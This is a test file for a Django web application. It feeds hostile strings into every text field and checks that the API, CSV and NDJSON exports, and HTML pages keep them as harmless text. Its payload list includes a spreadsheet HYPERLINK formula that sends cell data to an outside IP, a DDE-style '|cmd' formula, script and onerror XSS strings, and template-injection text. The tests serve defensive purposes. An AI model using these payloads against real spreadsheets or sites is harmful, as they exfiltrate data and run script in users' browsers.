"""Formulas, HTML and control characters in every text that people or data may bring (TARGETS S4): kept as they are, and
shown as text."""

import csv
import io
import json
import re
from datetime import timedelta
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from pyroaring import BitMap64

from accounts.models import Team, User
from activations.models import Activation, Connection, SyncRun
from lib import clock
from lib.formulas import FORMULA_STARTS
from profiles.models import Company, EventProperty, EventType, Identity, Profile, Source, TraitDefinition
from segments import membership
from segments.models import Run, Segment, SegmentVersion
from tests.api import world
from tests.segments import data

pytestmark = pytest.mark.django_db(transaction=True)

TEXTS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "+1+1|cmd",
    "@SUM(1;1)",
    "<script>window.executed = 1</script>",
    "\"'><img src=x onerror='window.executed = 1'>",
    "{{ request.user }} {% csrf_token %}",
    "bell \x07 escape \x1b[2J tab \t line \n return \r over \u202etxt.exe",
    "javascript:window.executed=1",
)
PAGES = (
    "/segments/",
    "/segments/hostile/",
    "/segments/hostile/runs/",
    "/segments/hostile/versions/1/outline/",
    "/activations/",
    "/activations/hostile/",
    "/activations/hostile/edit/",
    "/activations/new/",
    "/activations/new/?segment=hostile",
    "/activations/new/sample/?segment=hostile",
    "/teams/team/",
    "/teams/team/members/",
    "/teams/team/connections/",
    "/audit/",
)


def fill(text: str) -> None:
    """Every column that holds free text, with this text."""
    team = Team.objects.create(key="team", name=text)
    user = User.objects.create_user("owner@example.com", name=text)
    TraitDefinition.objects.create(
        unit="profile", key=text, type="text", column="hostile", label=text[:150], description=text
    )
    event = EventType.objects.create(name=text, table="hostile", label=text, description=text)
    EventProperty.objects.create(event_type=event, key=text, type="text", column="hostile", label=text)
    Source.objects.create(key="hostile", name=text)
    segment = Segment.objects.create(key="hostile", name=text, team=team, owner=user, decision=text)
    rule = {"trait": text, "op": "eq", "value": text}
    version = SegmentVersion.objects.create(
        segment=segment,
        number=1,
        definition={"unit": "profile", "rule": rule},
        words=text,
        sha256="0",
        note=text,
        author=user,
        state=SegmentVersion.State.PUBLISHED,
        published_at=clock.now(),
    )
    segment.published, segment.state = version, Segment.State.LIVE
    segment.save()
    _members(segment, version, text)
    connection = Connection.objects.create(team=team, kind="files", name=text, config={"folder": text})
    activation = Activation.objects.create(
        key="hostile", name=text, segment=segment, connection=connection, columns=[{"to": text, "trait": text}],
        stopped_because=text,
    )  # fmt: skip
    SyncRun.objects.create(activation=activation, trigger="manual", state="failed", failure=text, note=text)


@transaction.atomic
def _members(segment: Segment, version: SegmentVersion, text: str) -> None:
    company = Company.objects.create(external_id=text, traits={text: text})
    profile = Profile.objects.create(lasting=True, company=company, traits={text: text})
    Identity.objects.create(profile=profile, kind="external_id", value=text)
    run = Run.objects.create(
        segment=segment, version=version, trigger="manual", state="succeeded", members=1, entered=1, left=0,
        as_of=clock.now(), finished_at=clock.now(),
    )  # fmt: skip
    membership.store(run, BitMap64([profile.pk]))
    Run.objects.create(
        segment=segment, version=version, trigger="manual", state="failed", failure=text,
        as_of=clock.now() - timedelta(hours=1),
    )  # fmt: skip


@pytest.fixture
def reader(db: None) -> Client:
    return world.session_of(world.make_person("reader", administrator=True))


def texts_in(answer: Any) -> set[str]:
    """Every text of a JSON document, keys too."""
    if isinstance(answer, dict):
        return set().union(*(texts_in(part) for pair in answer.items() for part in pair), set())
    if isinstance(answer, list):
        return set().union(*(texts_in(part) for part in answer), set())
    return {answer} if isinstance(answer, str) else set()


ADDRESSES = (
    "segments", "segments/hostile", "segments/hostile/versions", "segments/hostile/runs", "segments/hostile/members",
    "segments/hostile/history", "catalogue", "companies", "connections", "activations", "activations/hostile",
    "sync-runs", "teams",
)  # fmt: skip


@pytest.mark.parametrize("text", TEXTS)
def test_the_api_gives_every_text_back_as_it_is(reader: Client, text: str) -> None:
    fill(text)
    for address in ADDRESSES:
        answer = reader.get(f"/api/v1/{address}")
        assert (answer.status_code, answer["X-Content-Type-Options"]) == (200, "nosniff")
        assert answer["Content-Type"] == "application/json"
        assert text in texts_in(answer.json()), address


@pytest.mark.parametrize("text", TEXTS)
def test_streams_lose_nothing_and_hold_no_formula(reader: Client, text: str) -> None:
    fill(text)
    lines = _stream(reader, "application/x-ndjson")
    assert [json.loads(line) for line in lines.split("\n") if line] == [{"external_id": text}]
    header, row = csv.reader(io.StringIO(_stream(reader, "text/csv"), newline=""))
    assert header == ["external_id"]
    is_formula = text.lstrip()[:1] in FORMULA_STARTS
    assert row == ["'" + text.replace("|", "\\|") if is_formula else text]


def _stream(reader: Client, kind: str) -> str:
    answer: Any = reader.get("/api/v1/segments/hostile/members", headers={"Accept": kind})
    assert answer["Content-Type"].startswith(kind)
    return str(b"".join(answer.streaming_content).decode())


@pytest.mark.parametrize("text", TEXTS)
def test_pages_show_it_as_text(reader: Client, text: str) -> None:
    fill(text)
    for page in PAGES:
        answer = reader.get(page)
        assert answer.status_code in (200, 286), page
        body = answer.content.decode()
        assert "<script>window" not in body, page
        assert "<img src=x" not in body, page
        assert not re.search(r"""(?:href|src|action)=["']javascript:""", body), page


def test_what_is_sent_by_api_comes_back_as_it_was_sent(reader: Client) -> None:
    team = data.make_team()
    for number, text in enumerate(TEXTS):
        body = {"key": f"s{number}", "name": text, "team": team.key, "decision": text}
        sent = reader.post("/api/v1/segments", json.dumps(body), content_type="application/json")
        assert (sent.status_code, sent.json()["name"], sent.json()["decision"]) == (201, text, text)
        assert reader.get(f"/api/v1/segments/s{number}").json()["name"] == text
